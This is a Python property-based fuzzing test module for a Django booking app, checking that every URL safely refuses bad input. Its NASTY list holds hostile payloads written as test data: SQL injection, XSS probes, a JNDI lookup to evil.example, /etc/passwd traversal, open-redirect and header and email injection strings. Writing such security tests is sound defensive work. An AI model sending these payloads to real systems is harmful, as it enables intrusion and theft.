"""Bad input by property-based fuzzing: every URL of the app, its path, query and form parameters, filled by
hypothesis with very long, non-Latin, control-character, SQL- and HTML-ish strings, impossible dates, negative and
huge numbers, unknown people, and sent as the organization's owner, a member and a stranger.

Each request must answer without a server error, never redirect off the site (other than to Microsoft's sign-in),
never echo markup unescaped; the database (every model but the session table) and the emulator's mailboxes must
be exactly as before; and where one parameter is certainly wrong, the page says what is wrong.

`TARGETS` names every URL of the resolver (Django's admin apart) with the parameters it reads; the guard tests
in tests/test_fuzzed_input.py fail when a URL, a form field on a page, a form class or a parameter read in a view
is missing from it, so a new form is fuzzed as soon as it exists.
"""

from __future__ import annotations

import hashlib
import itertools
import uuid
from collections import Counter
from collections.abc import Callable
from dataclasses import dataclass, field
from datetime import UTC, timedelta
from typing import Any
from urllib.parse import quote, urlsplit

from allauth.account.models import EmailAddress
from django import forms
from django.apps import apps
from django.contrib.sessions.models import Session
from django.test import Client
from django.urls import NoReverseMatch, URLPattern, URLResolver, get_resolver, reverse
from django.utils import timezone
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from accounts import services as account_services
from accounts.models import Membership, Organization, User
from booking.forms import parse_start
from booking.models import Booking
from booking.rules import booking_rules_of
from config.celery_app import beat_heartbeat
from integrations.models import Connection
from integrations.settings_page.forms import normalize_tenant
from localtime import zone_or_none
from m365_emulator.testing import EmulatorProcess

# Values every fuzzed parameter may get: the classics of attacks and of broken clients.
NASTY = [
    "",
    " ",
    "0",
    "-1",
    "-0",
    "1e308",
    "NaN",
    "Infinity",
    "99999999999999999999999999999",
    "-2147483649",
    "0x1e",
    "0000-00-00",
    "9999-12-31",
    "0001-01-01",
    "10000-01-01",
    "2027-02-30",
    "2027-13-45",
    "31/12/2027",
    "0000-00-00T00:00:00Z",
    "9999-12-31T23:59:59Z",
    "9999-12-31T23:30:00-14:00",
    "0001-01-01T00:00:00+14:00",
    "2027-01-05T14:00:00",
    "2027-01-05T14:00:00+99:00",
    "2027-01-05T14:07:13.5Z",
    "' OR '1'='1",
    "1; DROP TABLE accounts_user; --",
    "%' UNION SELECT password FROM accounts_user --",
    "<script>overlapProbe()</script>",
    '"><img src=x onerror=overlapProbe()>',
    "javascript:overlapProbe()",
    "{{ 7*7 }}{% debug %}",
    "%s%s%n%x",
    "${jndi:ldap://evil.example/a}",
    "../../../../etc/passwd",
    "\u202egnp.exe",
    "\u200b\ufeff",
    "名前と予定",
    "اجتماع",
    "Z̷̡͎a̸l̶g̵o",
    "🙂" * 300,
    "\x00",
    "\x1b[31mred",
    "\x7f",
    "line\r\nInjected-Header: x",
    "https://evil.example/",
    "//evil.example/",
    "/\\evil.example",
    "a" * 5000,
]
# Markup whose raw presence in a page would mean a value was echoed unescaped.
PROBES = ("<script>overlapProbe", "<img src=x onerror=overlapProbe")

ANY_TEXT = st.text(st.characters(codec="utf-8"), max_size=40)
LONG_TEXT = st.builds(lambda char, count: char * count, st.sampled_from("aé字🙂<'\\"), st.integers(256, 20_000))
ODD = st.one_of(st.sampled_from(NASTY), ANY_TEXT, LONG_TEXT)
NUMBERS = st.integers(-(10**30), 10**30).map(str)
DATES = st.one_of(
    st.dates().map(lambda d: f"{d.year:04d}-{d.month:02d}-{d.day:02d}"),
    st.sampled_from(["0000-00-00", "9999-12-31", "9999-12-30", "0001-01-01", "2027-02-29", "2026-00-10"]),
)
INSTANTS = st.one_of(
    st.datetimes(timezones=st.timezones()).map(lambda d: d.isoformat()),
    st.datetimes().map(lambda d: d.isoformat()),
    st.builds(
        lambda h, m: f"9999-12-31T23:30:00{'+' if h >= 0 else '-'}{abs(h):02d}:{m:02d}",
        st.integers(-23, 23),
        st.sampled_from([0, 30, 45]),
    ),
)
EMAILS = st.one_of(
    st.emails().map(lambda e: e + "\r\nBcc: victim@example.com"),
    st.sampled_from(["a@b", "x@@y.z", "@example.com", "用户@例子.广告", "<s>@x.io", "a" * 250 + "@x.io", "me@"]),
)
ZONES = st.sampled_from(["Mars/Olympus", "UTC+1", "utc", "Europe/Paris\n", "../../etc/localtime", "Etc/GMT+99"])


def refused_by(field: forms.Field) -> Callable[[str], bool]:
    """True when the Django form field refuses the value (the same field the app's form uses)."""

    def refused(value: str) -> bool:
        try:
            field.clean(value)
        except forms.ValidationError:
            return True
        return False

    return refused


def _not_a_future_instant(value: str) -> bool:
    try:
        start = parse_start(value)
    except (forms.ValidationError, OverflowError):
        return True
    return len(value) > 40 or start <= timezone.now() + timedelta(minutes=5)


def _not_a_tenant(value: str) -> bool:
    try:
        normalize_tenant(value)
    except forms.ValidationError:
        return True
    return len(value) > 255


def _not_a_zone(value: str) -> bool:
    return zone_or_none(value) is None or len(value) > 64


def _always(value: str) -> bool:
    return True


def _never(value: str) -> bool:
    return False


@dataclass(frozen=True)
class Param:
    """One parameter: its odd values, and `bad` (a value the form certainly refuses) when it is a guard."""

    odd: st.SearchStrategy[str] = ODD
    bad: Callable[[str], bool] = _never
    good: str = ""  # a well-formed value, formatted with the world's values (e.g. "{member}")
    many: bool = False  # sent several times (a list of people)
    always: bool = False  # never left out (the page only reads the others when it is there)

    @property
    def guards(self) -> bool:
        return self.bad is not _never


def _p(odd: st.SearchStrategy[str] | None = None, **kwargs: Any) -> Param:
    return Param(odd=st.one_of(ODD, odd) if odd is not None else ODD, **kwargs)


FREE = _p()
FLAG = _p(st.sampled_from(["on", "true", "1", "off", "false", "yes", "no"]), good="on")
NUMBER = _p(NUMBERS, bad=refused_by(forms.IntegerField()), good="30")
DATE = _p(DATES, bad=refused_by(forms.DateField()), good="{tomorrow}")
SOME_DAY = _p(DATES, bad=refused_by(forms.DateField(required=False)), good="{tomorrow}")  # may be left empty
INSTANT = _p(INSTANTS, bad=_not_a_future_instant, good="{slot}")
EMAIL = _p(EMAILS, bad=refused_by(forms.EmailField(required=False)), good="someone.new@contoso.onmicrosoft.com")
PERSON = _p(st.one_of(st.uuids().map(str), st.just("{foreign}")), bad=_always, good="{member}", many=True)
PEOPLE = _p(st.one_of(st.uuids().map(str), st.just("{foreign}"), st.just("{member}")), many=True)
ZONE = _p(ZONES, bad=_not_a_zone, good="Europe/Paris")
TENANT = _p(st.sampled_from(["common", "organizations", "a.b", "x" * 300 + ".com"]), bad=_not_a_tenant)
STATE = _p(st.uuids().map(str), bad=_always)  # a callback's state: no flow was started, none is good
SECRET = _p(bad=_always)  # a password or code the world never had


def text(longest: int, *, required: bool = False) -> Param:
    return _p(bad=refused_by(forms.CharField(max_length=longest, required=required)), good="Plan")


def choice(*values: str, many: bool = False) -> Param:
    def refused(value: str) -> bool:
        return value not in values

    return _p(
        st.sampled_from([v.upper() for v in values] + [v + " " for v in values]), bad=refused, many=many, good=values[0]
    )


@dataclass(frozen=True)
class Target:
    """One URL: how it is asked, the parameters it reads, and what it may change."""

    method: str
    params: dict[str, Param] = field(default_factory=dict)
    path: dict[str, Param] = field(default_factory=dict)  # URL parts beyond the organization (its own or not)
    connected: bool = True  # fuzzed in a world where Microsoft 365 is connected (searches reach the emulator)
    # Who is told, in words, what is wrong when one value is certainly wrong (others may be refused outright).
    explains: tuple[str, ...] = ("owner", "member", "anonymous")


# Admin commands whose effect is the point (check, sync, disconnect): fuzzed while nothing is connected, so that
# each is refused and its extra parameters are what is tried.
COMMAND = Target("post", connected=False, explains=())
PAGE = Target("get", explains=())
ANONYMOUS = ("anonymous",)
SEARCH = {
    "minutes": NUMBER,
    "required": PERSON,
    "optional": PEOPLE,
    "subject": text(255),
    "agenda": text(4000),
    "teams": FLAG,
}
# A meeting series (booking.search.series_form): on the booking page, in the confirmation link and the booking.
SERIES = {
    "repeats": choice("weekly", "weeks", "weekdays", "monthly_date", "monthly_weekday"),
    "every": _p(NUMBERS, bad=refused_by(forms.IntegerField()), good="2"),
    "ends": choice("count", "until"),
    "occurrences": _p(NUMBERS, bad=refused_by(forms.IntegerField()), good="3"),
    "until": SOME_DAY,
    # A near miss booked anyway: occurrences skipped (a day) or moved (a day and a time of the organizer's day).
    "skip": _p(DATES, many=True),
    "move": _p(INSTANTS, many=True),
}
# A room (booking.search.room_form): on the booking page, in the confirmation link and the booking. A room list
# or room code is only read with `room_mode`, so none of them certainly refuses on its own.
ROOM = {
    "room_mode": _p(st.sampled_from(["in_person", "hybrid", "IN_PERSON", "none"]), good=""),
    "seats": _p(NUMBERS, bad=refused_by(forms.IntegerField(required=False, min_value=1, max_value=500)), good="3"),
    "room_list": _p(st.one_of(st.uuids().map(str), st.just("{foreign}"))),
    "display": FLAG,
    "video": FLAG,
}
CHOSEN_ROOM = {"room": _p(st.one_of(st.uuids().map(str), st.just("{foreign}")))}
MEETING = {"booking": _p(st.uuids().map(str), good="{meeting}")}
AUDIT_FILTERS = {
    "area": choice("people", "rules", "connection", "bookings", ""),  # "": every area
    "person": text(100),
    "since": SOME_DAY,
    "until": SOME_DAY,
}
ALLAUTH_KEY = {"key": _p(good="abc:def")}

TARGETS: dict[str, Target] = {
    "home": PAGE,
    "healthz": PAGE,
    "robots_txt": PAGE,
    "account_login": Target(
        "post", {"login": EMAIL, "password": SECRET, "remember": FLAG, "next": FREE}, explains=ANONYMOUS
    ),
    "account_logout": Target("post", {"next": FREE}, explains=()),
    "account_inactive": PAGE,
    "account_signup": Target("post", {"email": EMAIL, "password1": FREE, "password2": FREE}, explains=()),
    "account_reauthenticate": Target("post", {"password": SECRET, "next": FREE}),
    "account_request_reauthentication_code": Target("post", {"recipient": FREE, "next": FREE}, explains=()),
    "account_confirm_reauthentication_code": Target("post", {"code": SECRET}, explains=()),
    "account_email": Target(
        "post",
        {"email": EMAIL, "action_add": FLAG, "action_remove": FLAG, "action_primary": FLAG, "action_send": FLAG},
        explains=(),
    ),
    "account_email_verification_sent": PAGE,
    "account_change_password": Target("post", {"oldpassword": SECRET, "password1": FREE, "password2": FREE}),
    "account_set_password": Target("post", {"password1": FREE, "password2": FREE}, explains=()),
    "account_reset_password": Target("post", {"email": EMAIL}, explains=ANONYMOUS),
    "account_confirm_login_code": Target("post", {"code": SECRET}, explains=()),
    "account_confirm_email": Target("post", {}, path=ALLAUTH_KEY, explains=()),
    "account_reset_password_from_key_done": PAGE,
    "account_reset_password_from_key": Target(
        "post", {"password1": FREE, "password2": FREE}, path={"uidb36": _p(good="1"), **ALLAUTH_KEY}, explains=()
    ),
    "account_reset_password_done": PAGE,
    "accept_invitation": Target(
        "post",
        {"name": text(200, required=True), "password1": FREE, "password2": FREE},
        path={"secret": _p(good="{invitation}")},
    ),
    "organization_home": PAGE,
    "profile": Target("post", {"language": choice("en", "de", "fr", "es", "ja", "pt-br", "ar")}),
    "invitations": Target("post", {"email": EMAIL, "role": choice("member", "admin")}),
    "integration_settings": PAGE,
    "organization_health": PAGE,
    "audit": Target("get", AUDIT_FILTERS | {"after": _p(bad=_always)}, explains=("owner",)),
    "audit_csv": Target("get", AUDIT_FILTERS, explains=("owner",)),
    "integration_tenant": Target(
        "post", {"tenant": TENANT, "mode": choice("domain_wide", "delegated"), "confirm": FLAG}
    ),
    "integration_consent": Target("post", explains=()),
    "integration_test": COMMAND,
    "integration_disconnect": Target("post", {"confirm": FLAG}, connected=False, explains=()),
    "integration_group": Target("post", {"access_group": EMAIL}),
    "integration_reach": COMMAND,
    "integration_rooms": Target("post", {"rooms": choice("on", "off")}, connected=False, explains=()),
    "integration_sync": COMMAND,
    "integration_sync_confirm": COMMAND,
    "calendar_connection": PAGE,
    "calendar_connect": Target("post", explains=()),
    "calendar_check": Target("post", explains=()),
    "calendar_disconnect": Target("post", explains=()),
    "microsoft_link": Target("post", explains=()),
    "people": Target("get", {"q": FREE, "page": _p(NUMBERS), "reach": choice("no", "yes")}, explains=()),
    "people_role": Target(
        "post", {"role": choice("admin", "member"), "q": FREE, "page": FREE}, path={"person": PERSON}
    ),
    "people_access": Target("post", {"active": choice("yes", "no"), "q": FREE, "page": FREE}, path={"person": PERSON}),
    "people_clash": Target(
        "post", {"action": choice("merge", "remove"), "q": FREE, "page": FREE}, path={"person": PERSON}
    ),
    "start": PAGE,
    "start_microsoft": Target("post", explains=()),
    "microsoft_sign_in": Target("post", explains=()),
    "sign_in_callback": Target("get", {"state": STATE, "code": FREE, "error": FREE, "error_description": FREE}),
    "consent_callback": Target(
        "get", {"state": STATE, "admin_consent": FLAG, "tenant": FREE, "error": FREE, "error_description": FREE}
    ),
    "calendar_callback": Target("get", {"state": STATE, "code": FREE, "error": FREE}),
    "consent_handed": Target("post", path={"link": _p(bad=_always, good="not-a-signed-link")}, explains=()),
    "booking_page": Target(
        "get",
        {
            **SEARCH,
            **SERIES,
            **ROOM,
            "minutes": Param(odd=NUMBER.odd, bad=NUMBER.bad, good="30", always=True),
            "start_date": DATE,
            "end_date": DATE,
            "widen": PEOPLE,
            "q": FREE,  # the people search inside the form (htmx asks booking_people with it)
            "from": _p(DATES, good="{tomorrow}"),  # "Show more days": the times from that day on (else ignored)
        },
    ),
    "booking_people": Target("get", {"q": FREE}, explains=()),
    "booking_confirm_page": Target("get", {**SEARCH, **SERIES, **ROOM, **CHOSEN_ROOM, "start": INSTANT}),
    "booking_time_zone": Target("post", {"time_zone": ZONE}),
    "booking_rules": Target(
        "post",
        {
            "blocking_statuses": choice("busy", "oof", "tentative", many=True),
            "minimum_notice_minutes": NUMBER,
            "buffer_before_minutes": NUMBER,
            "buffer_after_minutes": NUMBER,
            "granularity_minutes": choice("15", "5", "10", "30", "60"),
            "default_duration_minutes": NUMBER,
            "longest_window_days": NUMBER,
        },
    ),
    "booking_create": Target("post", {**SEARCH, **SERIES, **ROOM, **CHOSEN_ROOM, "start": INSTANT}),
    "meetings": PAGE,
    "meeting_detail": Target("get", {"part": FREE}, path=MEETING, explains=()),
    "meeting_retry": Target("post", path=MEETING, explains=()),
    "meeting_new_times": Target("get", path=MEETING, explains=()),
    "meeting_reschedule": Target("post", {"start": INSTANT, "minutes": NUMBER}, path=MEETING),
    "meeting_reroom": Target("post", path=MEETING, explains=()),
    "meeting_cancel": Target("post", {"comment": text(2000), "confirm": FLAG}, path=MEETING, explains=()),
    # One occurrence of a series, by its original start: cancelled (it alone or with the following), or moved.
    "meeting_occurrence_cancel": Target(
        "post",
        {"occurrence": _p(INSTANTS, good="{slot}"), "scope": choice("one", "following"), "comment": text(2000)},
        path=MEETING,
        explains=(),
    ),
    "meeting_occurrence_move": Target(
        "post", {"occurrence": _p(INSTANTS, good="{slot}"), "at": _p(good="15:00")}, path=MEETING, explains=()
    ),
    # The whole series moved to another time of the organizer's day.
    "meeting_series_move": Target("post", {"at": _p(good="15:00")}, path=MEETING, explains=()),
}

PASSWORD = "correct horse battery staple"
MEGAN = "megan.bowen@contoso.onmicrosoft.com"
ADELE = "adele.vance@contoso.onmicrosoft.com"


@dataclass
class World:
    """Contoso (Megan the owner, Adele a member), its cancelled meeting and open invitation; Fabrikam's Diego."""

    organization: Organization
    owner: User
    member: User
    values: dict[str, str]
    connected: bool

    def fill(self, value: str) -> str:
        """A value naming the world's things ("{member}", "{meeting}"...) made real; any other as it is."""
        if value.startswith("{") and value.endswith("}") and value[1:-1] in self.values:
            return self.values[value[1:-1]]
        return value


def build_world(emulator: EmulatorProcess, *, connected: bool) -> World:
    beat_heartbeat()  # a running beat, as in production: /healthz answers 200 when nothing is wrong
    organization = Organization.objects.create(name="Contoso")
    owner = User.objects.create_user(email=MEGAN, password=PASSWORD, name="Megan Bowen")
    member = User.objects.create_user(email=ADELE, password=PASSWORD, name="Adele Vance")
    organizer = Membership.objects.create(user=owner, organization=organization, role=Membership.Role.ADMIN)
    invited = Membership.objects.create(user=member, organization=organization, role=Membership.Role.MEMBER)
    for user in (owner, member):  # as allauth records them at a first sign-in (its email page would otherwise)
        EmailAddress.objects.update_or_create(user=user, email=user.email, defaults={"primary": True, "verified": True})
    booking_rules_of(organization=organization)  # made with their defaults when first read
    fabrikam = Organization.objects.create(name="Fabrikam")
    diego = User.objects.create_user(email="diego@fabrikam.onmicrosoft.com", password=PASSWORD)
    Membership.objects.create(user=diego, organization=fabrikam, role=Membership.Role.ADMIN)
    if connected:
        emulator.grant_admin_consent()
        Connection.objects.create(
            organization=organization,
            mode=Connection.Mode.DOMAIN_WIDE,
            status=Connection.Status.ACTIVE,
            tenant=emulator.tenant_domain,
            tenant_guid=emulator.tenant_id,
            consented_at=timezone.now(),
        )
    start = (timezone.now() + timedelta(days=8)).replace(minute=0, second=0, microsecond=0)
    meeting = Booking.objects.create(
        organization=organization, organizer=organizer, start=start, end=start + timedelta(minutes=30), subject="Plan"
    )
    for membership, role in ((organizer, "organizer"), (invited, "required")):
        meeting.participants.create(membership=membership, role=role)
    Booking.objects.filter(pk=meeting.pk).update(state=Booking.State.CANCELLED)
    invitation = account_services.invitation_create(
        organization=organization, invited_by=owner, email="newcomer@contoso.onmicrosoft.com", role="member"
    )
    values = {
        "member": str(member.uuid),
        "foreign": str(diego.uuid),
        "meeting": str(meeting.code),
        "invitation": invitation.secret,
        "tomorrow": (timezone.now() + timedelta(days=1)).date().isoformat(),
        "slot": (start + timedelta(days=1)).astimezone(UTC).isoformat().replace("+00:00", "Z"),
    }
    return World(organization, owner, member, values, connected)


@dataclass(frozen=True)
class Example:
    params: dict[str, list[str]]
    path: dict[str, str]
    foreign_organization: bool
    htmx: bool
    culprit: str | None  # the parameter given a value its form certainly refuses

    def __str__(self) -> str:
        def short(value: str) -> str:
            return repr(value) if len(value) <= 60 else f"{value[:40]!r}...({len(value)} characters)"

        params = {name: [short(v) for v in values] for name, values in self.params.items()}
        return f"params={params} path={ {k: short(v) for k, v in self.path.items()} } culprit={self.culprit}"


@st.composite
def examples(draw: st.DrawFn, target: Target, world: World) -> Example:
    guards = [name for name, p in target.params.items() if p.guards]
    culprit = draw(st.sampled_from(guards)) if guards else None
    params: dict[str, list[str]] = {}
    for name, param in target.params.items():
        if name == culprit:
            values = [draw(param.odd.filter(param.bad))]
        else:
            how = draw(st.sampled_from(["good", "odd", "absent"] if not param.always else ["good", "odd"]))
            if how == "absent":
                continue
            values = [world.fill(param.good) if how == "good" else draw(param.odd)]
        if param.many and draw(st.booleans()):
            values += draw(st.lists(param.odd, max_size=3))
        params[name] = [world.fill(v) for v in values]
    if draw(st.booleans()):  # a parameter nobody asked for
        params[draw(st.sampled_from(["x", "csrfmiddlewaretoken", "organization", "user", "role", "id"]))] = [draw(ODD)]
    path = {}
    for name, param in target.path.items():
        path[name] = world.fill(param.good) if draw(st.booleans()) else world.fill(draw(param.odd))
    return Example(params, path, draw(st.integers(0, 9)) == 0, draw(st.booleans()), culprit)


@dataclass
class Tally:
    requests: int = 0
    server_errors: list[str] = field(default_factory=list)
    changes: list[str] = field(default_factory=list)
    unexplained: list[str] = field(default_factory=list)
    statuses: Counter[int] = field(default_factory=Counter)

    def add(self, other: Tally) -> None:
        self.requests += other.requests
        self.server_errors += other.server_errors
        self.changes += other.changes
        self.unexplained += other.unexplained
        self.statuses.update(other.statuses)


def database_digest() -> dict[str, str]:
    """Every model's rows (the session table apart: a sign-in started keeps its state in the visitor's session;
    a signed-in person's `last_login` apart: the test clients sign in before the digest is taken)."""
    digest = {}
    for model in apps.get_models():
        if model is Session:
            continue
        names = [f.attname for f in model._meta.concrete_fields if f.attname != "last_login"]
        rows = model._default_manager.order_by("pk").values_list(*names)
        digest[model._meta.label] = hashlib.sha256(repr(list(rows)).encode()).hexdigest()
    return digest


def mailboxes(emulator: EmulatorProcess) -> dict[str, tuple[str, ...]]:
    """Every event in every mailbox of every tenant of the emulator: (id, changeKey, start) per mailbox."""
    held = {}
    for tenant in emulator.control("GET", "/tenants")["tenants"]:
        for person in tenant["users"]:
            address = person["userPrincipalName"]
            try:
                events = emulator.control("GET", f"/tenants/{tenant['id']}/mailboxes/{address}/events")["value"]
            except Exception:  # a directory entry without a mailbox
                continue
            held[address] = tuple(sorted(f"{e.get('id')}|{e.get('changeKey')}|{e.get('start')}" for e in events))
    return held


_ADDRESSES = itertools.count(1)


def _clients(world: World) -> dict[str, Client]:
    """Owner, member and anonymous, each from an address of their own (allauth limits failed sign-ins by address)."""

    def client() -> Client:
        n = next(_ADDRESSES)
        return Client(REMOTE_ADDR=f"198.51.{100 + n // 250 % 50}.{n % 250 + 1}")

    owner, member = client(), client()
    owner.force_login(world.owner)
    member.force_login(world.member)
    return {"owner": owner, "member": member, "anonymous": client()}


def url_patterns() -> dict[str, tuple[str, URLPattern]]:
    """Every named URL of the resolver: its whole route and its pattern (with the view), Django's admin apart."""

    def walk(patterns: list[URLPattern | URLResolver], prefix: str) -> dict[str, tuple[str, URLPattern]]:
        found: dict[str, tuple[str, URLPattern]] = {}
        for entry in patterns:
            route = prefix + str(entry.pattern)
            if isinstance(entry, URLResolver):
                if not route.startswith("admin/"):
                    found |= walk(entry.url_patterns, route)
            elif entry.name:
                found[entry.name] = (route, entry)
        return found

    return walk(get_resolver().url_patterns, "")


def url_routes() -> dict[str, str]:
    return {name: route for name, (route, _) in url_patterns().items()}


def url_of(name: str, world: World, path: dict[str, str], *, foreign: bool = False) -> str:
    """The URL, in the world's organization (or an unknown one), with these path values where its pattern allows."""
    kwargs = {key: quote(value, safe="") for key, value in path.items()}
    if "<uuid:code>" in url_routes()[name]:
        kwargs["code"] = str(uuid.uuid4() if foreign else world.organization.code)
    try:
        return reverse(name, kwargs=kwargs)
    except NoReverseMatch:  # a value the route's own pattern refuses: the route's good value instead
        target = TARGETS[name]
        good = {key: world.fill(target.path[key].good) if key in target.path else v for key, v in kwargs.items()}
        return reverse(name, kwargs=good)


def body_text(response: Any) -> str:
    """What a response says, streamed (the audit CSV) or not."""
    raw = b"".join(response.streaming_content) if response.streaming else response.content
    return str(raw.decode(errors="replace"))


def _explained(client: Client, response: Any) -> bool:
    """The answer says what is wrong: a refusal page, a form's errors, or an error message after a redirect."""
    if response.status_code in (403, 404, 405, 410, 429):
        return True
    body = body_text(response)
    if response.status_code in (301, 302, 303):
        location = response["Location"]
        if "/accounts/login/" in location or not location.startswith("/"):
            return True
        body = body_text(client.get(location, follow=True))
    markers = ("errorlist", "message error", 'role="alert"', "control character")
    return any(marker in body for marker in markers)


def _offsite(location: str, emulator: EmulatorProcess) -> bool:
    """A redirect that leaves the site (browsers read a backslash as a slash), other than to Microsoft's sign-in."""
    if location.startswith((emulator.browser_url, emulator.base_url)):
        return False
    normalized = location.replace("\\", "/").lstrip("\t\n\r ")
    parts = urlsplit(normalized)
    return bool(parts.scheme or parts.netloc or normalized.startswith("//"))


def graph_writes(emulator: EmulatorProcess, since: int) -> list[str]:
    """Graph requests since `since` that could change a mailbox (anything but a GET or a free/busy read)."""
    reads = ("/getSchedule", "/findMeetingTimes", "/$batch")
    return [
        f"{e['method']} {e['path']}"
        for e in emulator.log(since)
        if e["path"].startswith("/v1.0") and e["method"] != "GET" and not e["path"].endswith(reads)
    ]


def fuzz(name: str, world: World, emulator: EmulatorProcess, *, max_examples: int) -> Tally:
    """Send `max_examples` bad requests to one URL as owner, member and anonymous; assert the promises.

    The caller compares the emulator's `mailboxes` before and after a whole run; here every Graph request that
    could write is counted as a change."""
    target = TARGETS[name]
    tally = Tally()
    since = emulator.last_seq()

    @settings(
        max_examples=max_examples,
        deadline=None,
        database=None,
        suppress_health_check=[
            HealthCheck.function_scoped_fixture,
            HealthCheck.too_slow,
            HealthCheck.filter_too_much,
            HealthCheck.data_too_large,
        ],
    )
    @given(examples(target, world))
    def one(example: Example) -> None:
        clients = _clients(world)
        before = database_digest()
        for who, client in clients.items():
            url = url_of(name, world, example.path, foreign=example.foreign_organization)
            headers = {"HTTP_HX_REQUEST": "true"} if example.htmx else {}
            tally.requests += 1
            try:
                response = getattr(client, target.method)(url, example.params, **headers)
            except Exception as error:  # what would be a 500
                tally.server_errors.append(f"{who} {name}: {error!r}")
                raise AssertionError(f"{name} as {who} failed with {error!r} on {example!s}") from error
            tally.statuses[response.status_code] += 1
            assert response.status_code < 500, f"{name} as {who}: {response.status_code} on {example!s}"
            location = response.get("Location", "")
            assert not _offsite(location, emulator), f"{name} as {who} redirects off the site: {location}"
            if "html" in response.get("Content-Type", ""):
                body = body_text(response)
                echoed = [probe for probe in PROBES if probe in body]
                assert not echoed, f"{name} as {who} echoes markup unescaped: {echoed}"
            told = who not in target.explains or not example.culprit or example.foreign_organization
            if not told and not _explained(client, response):
                tally.unexplained.append(f"{who} {name} {example.culprit}")
                raise AssertionError(f"{name} as {who}: nothing says what is wrong with {example.culprit}")
        after = database_digest()
        changed = sorted(model for model in before if before[model] != after[model])
        if changed:
            tally.changes.append(f"{name}: {changed}")
        assert not changed, f"{name}: bad input changed {changed} on {example!s}"

    one()
    tally.changes += [f"{name}: {write}" for write in graph_writes(emulator, since)]
    assert not tally.changes, tally.changes
    return tally
